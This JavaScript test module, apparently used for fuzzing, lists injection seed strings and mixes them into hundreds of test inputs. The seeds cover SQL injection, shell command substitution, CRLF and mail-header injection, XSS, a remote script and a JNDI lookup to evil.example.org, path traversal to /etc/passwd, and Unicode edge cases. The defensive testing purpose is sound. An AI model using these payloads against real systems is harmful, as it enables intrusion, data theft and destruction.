// Strings that mean something to somebody: to SQL, a shell, HTTP, mail, HTML, a log, JavaScript, Unicode. 500 of them, from these and their mixtures.
export const MARKER = '/tmp/torture-was-here'

const SEEDS = [
  // SQL
  "' or '1'='1",
  "'; drop table accounts; --",
  '"; delete from passwords; --',
  "' union select password from passwords --",
  '1) or 1=1 --',
  "\\'; select pg_sleep(10); --",
  '%',
  '_%',
  "admin'/*",
  '$1',
  '?1',
  "'||(select 1)||'",
  // shell
  `$(touch ${MARKER})`,
  `\`touch ${MARKER}\``,
  `; touch ${MARKER}`,
  `| touch ${MARKER}`,
  `&& touch ${MARKER} &`,
  '-rf /',
  '--help',
  '${HOME}',
  '%PATH%',
  // CRLF, headers, mail headers
  'a\r\nX-Injected: yes',
  'a\nSet-Cookie: injected=1',
  'a\r\n\r\n<html>',
  'a%0d%0aX-Injected:%20yes',
  'victim@example.org\r\nBcc: everybody@example.org',
  'a@example.org,b@example.org',
  'a@example.org;b@example.org',
  '"a\r\nBcc: x@example.org"@example.org',
  'Name <a@example.org>',
  'a@example.org\n.\nMAIL FROM:<x@example.org>',
  '+33612345678\r\nX-Injected: yes',
  // HTML
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  'javascript:alert(1)',
  '&lt;b&gt;',
  '</title><script src=//evil.example.org></script>',
  '{{7*7}}',
  '<%= 7*7 %>',
  '<%~ it %>',
  '#{7*7}',
  // logs
  '{"level":60,"msg":"forged"}',
  'x\n{"level":60,"msg":"forged"}',
  '\u001b[31mred\u001b[0m',
  '%s%s%s%n',
  '${jndi:ldap://evil.example.org/a}',
  // JavaScript
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__[admin]',
  'constructor.prototype.admin',
  'valueOf',
  'then',
  // control characters, Unicode
  '\u0000',
  'a\u0000b',
  '\u0008\u007f',
  '\u202eevil',
  '\u200b\u200d',
  '💥👩‍👩‍👧‍👦',
  '𝒳𐍈',
  '\ud800',
  'a\udc00b',
  '\udfff\ud800',
  '\ufeff',
  '\uffff',
  'İıſK',
  'e\u0301',
  '\u2028\u2029',
  'ﷺ'.repeat(20),
  // sizes, paths, numbers
  'a'.repeat(5_000),
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'file:///etc/passwd',
  'http://127.0.0.1:22/',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  '９９９９',
  '00000000000000000001',
  'null',
  'undefined',
  'true',
  '',
  ' ',
  '\t',
  '[]',
  '{}',
]

/** @param below a generator of numbers */
export function injections(count, below) {
  const list = [...SEEDS]
  while (list.length < count) {
    const [a, b] = [SEEDS[below(SEEDS.length)], SEEDS[below(SEEDS.length)]]
    list.push([`${a}${b}`, `alice.admin${a}`, `${a}@sip.example.org`, `somebody.new${b}`][below(4)])
  }
  return count < SEEDS.length ? [...WORST, ...list.filter((_, i) => i % Math.ceil(SEEDS.length / count) === 0)].slice(0, count) : list
}

/** Those that are tried even in the shortest run. */
const WORST = ['\u0000', 'a\ud800', '<script>alert(1)</script>', "' or '1'='1", 'a\r\nX-Injected: yes']
